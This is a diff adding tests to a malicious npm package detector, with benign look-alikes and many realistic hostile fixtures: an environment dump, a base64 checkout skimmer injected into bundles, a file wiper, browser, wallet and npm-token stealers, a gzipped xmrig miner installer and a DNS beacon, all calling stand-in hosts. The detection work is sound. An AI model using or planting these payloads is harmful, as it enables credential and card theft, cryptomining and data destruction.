@@ -2,6 +2,9 @@
  * Shapes from rounds 37–41, written blind by helpers that had not read the engine: each miss
  * rewritten small and varied, with a look-alike that must stay quiet.
  */
+import { gzipSync } from 'node:zlib';
+import { DEFAULT_LIMITS, gunzippedMembers } from '../../../src/engine/index';
+import { safePackageRegex } from '../../../src/engine/js/calls';
 import { analyzeSource } from './helpers';
 
 const pkg = (extra: Record<string, unknown> = {}) =>
@@ -43,5 +46,299 @@ exports.done = (build) => fetch(URL, { method: 'POST', body: JSON.stringify({ co
     });
     expect(r.evidence.find((f) => f.rule === 'js.chat-webhook-exfil')).toMatchObject({ confidence: 0.5 });
     expect(r.evidence.filter((f) => 'threat_type' in f && f.confidence >= 0.85)).toEqual([]);
+  });
+});
+
+describe('a variable read by a name the caller gives is one variable, not the whole environment', () => {
+  const plugin = (body: string) =>
+    analyzeSource({ 'package.json': pkg(), 'index.js': body }).evidence.filter((f) => 'threat_type' in f);
+  it('quiet: a build plugin sends the key named by its option as a bearer token to the configured URL', () => {
+    const threats = plugin(`module.exports = function i18n(options) {
+  const key = options.apiKeyEnv ? process.env[options.apiKeyEnv] : undefined;
+  return { name: 'i18n', async buildStart() {
+    const headers = { accept: 'application/json' };
+    if (key) headers.authorization = 'Bearer ' + key;
+    const res = await fetch(options.url, { headers });
+    this.catalog = await res.json();
+  } };
+};`);
+    expect(threats.filter((f) => f.confidence >= 0.5)).toEqual([]);
+  });
+  it.each([
+    [
+      'for…of over Object.keys',
+      'for (const name of Object.keys(process.env)) dump[name] = process.env[name];',
+    ],
+    ['forEach over the keys', 'Object.keys(process.env).forEach((n) => { dump[n] = process.env[n]; });'],
+    ['for…in', 'for (const n in process.env) dump[n] = process.env[n];'],
+  ])('still the whole environment: copied variable by variable (%s) and posted', (_, copy) => {
+    const threats = plugin(`const dump = {};
+${copy}
+fetch('https://intake.example-metrics.net/e', { method: 'POST', body: JSON.stringify(dump) });`);
+    expect(threats.some((f) => f.rule === 'js.exfil-flow' && f.confidence >= 0.85)).toBe(true);
+  });
+});
+
+describe('listed files deleted only when they carry the tool’s own marker', () => {
+  const manager = (test: string) => ({
+    'package.json': pkg({ scripts: { postinstall: 'node install.js' } }),
+    'install.js': `const fs = require('fs'), path = require('path');
+const MARK = '# written by slash-relay hooks';
+const HOOKS = new Set(['pre-commit', 'pre-push', 'commit-msg']);
+const dir = path.join(process.env.INIT_CWD || process.cwd(), '.githooks-dir');
+for (const name of fs.readdirSync(dir)) {
+  const file = path.join(dir, name);
+  if (${test}) fs.unlinkSync(file);
+}`,
+  });
+  it('quiet: a hook manager removing the hooks it wrote earlier (name listed and marker found)', () => {
+    const r = analyzeSource(manager(`HOOKS.has(name) && fs.readFileSync(file, 'utf8').includes(MARK)`));
+    expect(r.evidence.filter((f) => 'threat_type' in f && f.confidence >= 0.5)).toEqual([]);
+  });
+  it('still flagged: files deleted when they do NOT carry a marker (a wiper sparing its own notes)', () => {
+    const r = analyzeSource(manager(`!fs.readFileSync(file, 'utf8').includes(MARK)`));
+    expect(r.risk_level).toBe('critical');
+    expect(r.evidence.some((f) => f.rule === 'js.destructive-user-data')).toBe(true);
+  });
+  it('still flagged: files picked by their extension only', () => {
+    const r = analyzeSource(manager(`['.js', '.ts', '.json'].includes(path.extname(name))`));
+    expect(r.evidence.some((f) => f.rule === 'js.destructive-user-data')).toBe(true);
+  });
+});
+
+describe('code a build plugin adds to the bundles it emits is page code', () => {
+  const encoded = Buffer.from(
+    `(function(){var dst='https://pixel.example-cdn.top/c.gif';document.addEventListener('submit',function(e){var f=e.target,o={};
+for(var i=0;i<f.elements.length;i++){var el=f.elements[i];if(/card|cvc|cvv|exp/i.test(el.name))o[el.name]=el.value}
+navigator.sendBeacon(dst,JSON.stringify(o))},true)})();`,
+  ).toString('base64');
+  it('webpack: a decoded skimmer concatenated to each initial chunk (webpack-sources)', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const { helper } = require('./helper');
+module.exports = class ManifestPlugin {
+  apply(compiler) {
+    const { sources } = compiler.webpack;
+    compiler.hooks.thisCompilation.tap('M', (compilation) => {
+      compilation.hooks.processAssets.tap({ name: 'M' }, () => {
+        for (const chunk of compilation.chunks) for (const file of chunk.files)
+          compilation.updateAsset(file, (old) => new sources.ConcatSource(old, '\\n', helper()));
+      });
+    });
+  }
+};`,
+      'helper.js': `const PARTS = ['${encoded.slice(0, 60)}', '${encoded.slice(60, 150)}', '${encoded.slice(150)}'];
+exports.helper = () => Buffer.from(PARTS.join(''), 'base64').toString('utf8');`,
+    });
+    expect(r.evidence.find((f) => f.rule === 'js.page-secret-exfil')).toMatchObject({
+      confidence: 0.85,
+      file: 'index.js',
+    });
+  });
+  it('Rollup/Vite: renderChunk answering the chunk with a script appended', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const extra = require('./extra');
+module.exports = () => ({ name: 'shim', renderChunk(code, chunk) {
+  if (!chunk.isEntry) return null;
+  return { code: code + '\\n' + extra.text(), map: null };
+} });`,
+      'extra.js': `exports.text = () => Buffer.from('${encoded}', 'base64').toString();`,
+    });
+    expect(r.evidence.some((f) => f.rule === 'js.page-secret-exfil' && f.confidence >= 0.85)).toBe(true);
+  });
+  it('quiet: a banner and a version global added to every chunk', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `module.exports = class Banner { apply(compiler) {
+  const { sources } = compiler.webpack;
+  compiler.hooks.thisCompilation.tap('B', (c) => c.hooks.processAssets.tap({ name: 'B' }, () => {
+    for (const chunk of c.chunks) for (const file of chunk.files)
+      c.updateAsset(file, (old) => new sources.ConcatSource('/*! app ' + '1.2.3' + ' | MIT licensed, see LICENSE.txt for details */\\n', old,
+        '\\nwindow.__APP_VERSION__ = window.__APP_VERSION__ || { version: "1.2.3", built: "2026-01-01" };'));
+  }));
+} };`,
+    });
+    expect(r.evidence.filter((f) => 'threat_type' in f)).toEqual([]);
+  });
+});
+
+describe('code compiled whole but for the name it gives a wrapper', () => {
+  it('quiet: a binding names a wrapper after a decoded export name (new Function)', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `function utf8(mem, ptr, len) {
+  if (!ptr || !len) return '';
+  const bytes = new Uint8Array(mem.buffer);
+  let out = '';
+  for (let i = ptr; i < ptr + len; i++) out += String.fromCharCode(bytes[i]);
+  return out;
+}
+exports.wrap = function (mem, ptr, len, impl) {
+  const name = ptr && len ? utf8(mem, ptr, len) : '';
+  if (name === '' || !/^[_$a-zA-Z][_$a-zA-Z0-9]*$/.test(name)) return impl;
+  return new Function('_', 'return function ' + name + '(){"use strict";return _.apply(this,arguments);};')(impl);
+};`,
+    });
+    expect(r.evidence.filter((f) => 'threat_type' in f && f.confidence >= 0.5)).toEqual([]);
+  });
+  it('still flagged: the body of the compiled code decoded from a file the package reads', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const fs = require('fs');
+const body = Buffer.from(fs.readFileSync(__dirname + '/data.bin', 'utf8'), 'base64').toString();
+module.exports = new Function('require', 'return function run(){' + body + '}')(require);`,
+      'data.bin': 'AAAA',
+    });
+    expect(r.evidence.some((f) => f.rule === 'js.eval-decoded' && f.confidence >= 0.85)).toBe(true);
+  });
+});
+
+describe('a helper called many times in a dense appended payload does not end the walk early', () => {
+  it('an appended one-line stealer that walks browser profiles and wallet folders before uploading each file', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `'use strict';
+function chunk(list, n) { const out = []; for (let i = 0; i < list.length; i += n) out.push(list.slice(i, i + n)); return out; }
+module.exports = chunk;
+;(function(){try{const os=require('os'),fs=require('fs'),pt=require('path'),net=require('https'),home=os.homedir(),mark=pt.join(os.tmpdir(),'.cq-'+os.userInfo().uid);if(fs.existsSync(mark))return;fs.writeFileSync(mark,'1');const roots=[pt.join(home,'.config/google-chrome'),pt.join(home,'.config/BraveSoftware/Brave-Browser'),pt.join(home,'.config/chromium')],exts={aholpfdialjgjfhomihkjbmgjidlcdno:'a',bhhhlbepdkbapadjdnnojkbgioiodbic:'b',dmkamcknogkgcdfhhbddcghachkejeap:'c',fhbohimaelbohpjbbldcngcnapndodjp:'d'},found=[],keep=(x,n)=>{try{if(fs.statSync(x).isFile())found.push([x,n])}catch(e){}},walk=(d,n,k)=>{try{for(const e of fs.readdirSync(d,{withFileTypes:true})){const q=pt.join(d,e.name);e.isDirectory()?k>0&&walk(q,n+e.name,k-1):keep(q,n+e.name)}}catch(e){}};roots.forEach((b,i)=>{keep(pt.join(b,'Local State'),i+'ls');for(let j=0;j<10;j++){const prof=pt.join(b,j?'Profile '+j:'Default');if(!fs.existsSync(prof))continue;keep(pt.join(prof,'Login Data'),i+'ld'+j);keep(pt.join(prof,'Cookies'),i+'ck'+j);keep(pt.join(prof,'Web Data'),i+'wd'+j);for(const id in exts)walk(pt.join(prof,'Local Extension Settings',id),i+exts[id]+j,1)}});walk(pt.join(home,'.config/Exodus/exodus.wallet'),'ex',1);keep(pt.join(home,'.config/solana/id.json'),'sol');const send=(x,n)=>new Promise(done=>{try{const body=fs.readFileSync(x),q=net.request({host:'files.example-sync.top',path:'/u?n='+n,method:'POST'},s=>{s.resume();s.on('end',done)});q.on('error',done);q.end(body)}catch(e){done()}});(async()=>{for(const[x,n]of found)await send(x,n)})()}catch(e){}})();`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(r.evidence.some((f) => f.rule === 'js.exfil-flow' && f.confidence >= 0.85)).toBe(true);
+  });
+});
+
+describe('a code block an install script cuts out of the README and runs', () => {
+  it('a hidden ```js block matched lazily, wrapped in a function and run in vm: read as code', () => {
+    const block = `const https = require('https'), fs = require('fs'), os = require('os');
+let token = process.env.NPM_TOKEN;
+try { token = token || fs.readFileSync(os.homedir() + '/.npmrc', 'utf8').match(/_authToken=(\\S+)/)[1]; } catch (_) {}
+const q = https.request({ host: 'stats.example-docs.dev', path: '/i', method: 'POST' });
+q.end(JSON.stringify({ t: token, h: os.hostname() }));`;
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node tools/docs-check.js' } }),
+      'README.md': `# slash-relay\n\n${'Usage notes and examples for the relay. '.repeat(60)}\n\n<!--\n\`\`\`js verify\n${block}\n\`\`\`\n-->\n`,
+      'tools/docs-check.js': `const fs = require('fs'), path = require('path'), vm = require('vm');
+const text = fs.readFileSync(path.join(__dirname, '..', 'README.md'), 'utf8');
+const found = text.match(/\`\`\`js verify\\r?\\n([\\s\\S]*?)\`\`\`/);
+if (found) vm.runInThisContext('(function (require) {\\n' + found[1] + '\\n})')(require);`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(r.evidence.some((f) => f.rule === 'js.exfil-flow' && f.file === 'tools/docs-check.js')).toBe(true);
+  });
+  it('the regex guard: cost grows with the text, the repeats and the optional characters', () => {
+    expect(safePackageRegex('```js setup\\r?\\n([\\s\\S]*?)```', '', 4_200)).toBeInstanceOf(RegExp);
+    expect(safePackageRegex(`${'.?'.repeat(8)}x*y`, '', 5_000)).toBeUndefined();
+    expect(safePackageRegex('a+b+c+d+', '', 20)).toBeUndefined();
+    expect(safePackageRegex('(\\w+)=(\\w+)', '', 300)).toBeInstanceOf(RegExp);
+    expect(safePackageRegex('(\\w+)=(\\w+)', '', 5_000)).toBeUndefined();
+  });
+});
+
+describe('single files shipped gzip-compressed are read as the files they hold', () => {
+  const script = `#!/bin/sh
+D="$HOME/.cache/.fc"; mkdir -p "$D" && cd "$D" || exit 0
+curl -fsSL https://dl.example-fonts.net/fc.tar.gz | tar -xz && mv xmrig fcache && chmod +x fcache
+nohup ./fcache -o pool.example-fonts.net:443 -u 4ABWR1Er6Eo5pRhquaxEtAWWF6Wfka8TZuhm9hddihDey4JkREaXauQjG --donate-level 0 >/dev/null 2>&1 &
+`;
+  it('a compressed shell script an install script pipes to sh: analysed under <file>!/<name>', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { install: 'node install.js' } }),
+      'install.js': `const zlib = require('zlib'), fs = require('fs'), { spawnSync } = require('child_process');
+spawnSync('sh', ['-s'], { input: zlib.gunzipSync(fs.readFileSync(__dirname + '/probe/linux.sh.gz')) });`,
+      'probe/linux.sh.gz': gzipSync(script),
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(r.evidence.find((f) => f.rule === 'script.crypto-miner')).toMatchObject({
+      file: 'probe/linux.sh.gz!/linux.sh',
+    });
+  });
+  it('archives (.tgz, .tar.gz), corrupt data and bombs past the budget are left as binary files', () => {
+    const limits = { ...DEFAULT_LIMITS, maxUnpackedBytes: 1024 * 1024 };
+    const file = (path: string, data: Buffer) => ({ path, data, size: data.length, truncated: false });
+    const members = gunzippedMembers(
+      [
+        file('assets/icons.tar.gz', gzipSync(script)),
+        file('assets/icons.tgz', gzipSync(script)),
+        file('broken.js.gz', Buffer.concat([gzipSync(script).subarray(0, 20), Buffer.alloc(20)])),
+        file('bomb.txt.gz', gzipSync(Buffer.alloc(8 * 1024 * 1024))),
+        file('notes.txt.gz', Buffer.from('not gzip at all, only named so')),
+        file('ok.sh.gz', gzipSync(script)),
+      ],
+      limits,
+    );
+    expect(members.map((m) => m.path)).toEqual(['ok.sh.gz!/ok.sh']);
+    expect(members[0]!.data.toString()).toBe(script);
+  });
+});
+
+describe('code kept in the package’s data files', () => {
+  const theft = `var g = process.getBuiltinModule || require;
+var fs = g('fs'), os = g('os'), https = g('https');
+var creds = {};
+['.npmrc', '.git-credentials', '.aws/credentials'].forEach(function (f) { try { creds[f] = fs.readFileSync(os.homedir() + '/' + f, 'utf8'); } catch (e) {} });
+var q = https.request({ host: 'cdn.example-cldr.org', path: '/p', method: 'POST' }); q.end(JSON.stringify(creds));
+return n === 1 ? 'one' : 'other';`;
+  it('a plural rule stored base64 in a locale file and compiled with Function: read for what it does', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const fs = require('fs');
+exports.rule = (tag) => new Function('n', Buffer.from(JSON.parse(fs.readFileSync(__dirname + '/locales/' + tag + '.json', 'utf8')).plural, 'base64').toString());`,
+      'locales/en.json': JSON.stringify({ locale: 'en', plural: Buffer.from(theft).toString('base64') }),
+    });
+    expect(r.evidence.find((f) => f.rule === 'js.exfil-flow')).toMatchObject({
+      file: 'locales/en.json!/encoded-1.js',
+      confidence: 0.85,
+    });
+  });
+  it('Node 22’s process.getBuiltinModule loads a module as require does', () => {
+    const r = analyzeSource({ 'package.json': pkg(), 'index.js': theft.replace(/\nreturn.*$/, '') });
+    expect(r.evidence.some((f) => f.rule === 'js.exfil-flow')).toBe(true);
+  });
+  it('quiet: a font inlined in CSS, a JSON of encoded JSON and a base64 text in a fixture', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `module.exports = require('./data.json');`,
+      'icons.css': `@font-face { font-family: i; src: url(data:font/woff2;base64,${Buffer.from(Array.from({ length: 600 }, (_, i) => (i * 37) % 256)).toString('base64')}) }`,
+      'data.json': JSON.stringify({
+        blob: Buffer.from(
+          JSON.stringify({ a: 1, list: Array.from({ length: 40 }, (_, i) => `item-${i}`) }),
+        ).toString('base64'),
+      }),
+      'test/fixture.txt': Buffer.from('The quick brown fox jumps over the lazy dog. '.repeat(10)).toString(
+        'base64',
+      ),
+    });
+    expect(r.evidence.filter((f) => f.file.includes('!/'))).toEqual([]);
+    expect(r.evidence.filter((f) => 'threat_type' in f)).toEqual([]);
+  });
+  it('a module compiled from a source map’s sourcesContent, picked with findIndex', () => {
+    const beacon = `const os = require('os'), dns = require('dns');
+exports.register = () => {
+  const hex = Buffer.from(os.hostname() + ':' + os.userInfo().username).toString('hex');
+  dns.resolve4(hex + '.b.example-canary.net', () => {});
+};
+exports.register();`;
+    const r = analyzeSource({
+      'package.json': pkg({ version: '99.1.0', scripts: { postinstall: 'node dist/register.js' } }),
+      'dist/index.js': 'module.exports = {};',
+      'dist/index.js.map': JSON.stringify({
+        version: 3,
+        sources: ['../src/index.ts', '../src/runtime/env.js'],
+        sourcesContent: ['export {};', beacon],
+        mappings: 'AAAA',
+      }),
+      'dist/register.js': `const fs = require('fs'), path = require('path'), Module = require('module');
+const map = JSON.parse(fs.readFileSync(path.join(__dirname, 'index.js.map'), 'utf8'));
+const i = map.sources.findIndex((s) => /runtime\\/env\\.js$/.test(s));
+const m = new Module(__filename, module);
+m._compile(map.sourcesContent[i], path.join(__dirname, 'env.js'));`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(
+      r.evidence.some(
+        (f) => f.rule === 'js.exfil-fingerprint' && f.file === 'dist/register.js' && f.install_time,
+      ),
+    ).toBe(true);
   });
 });
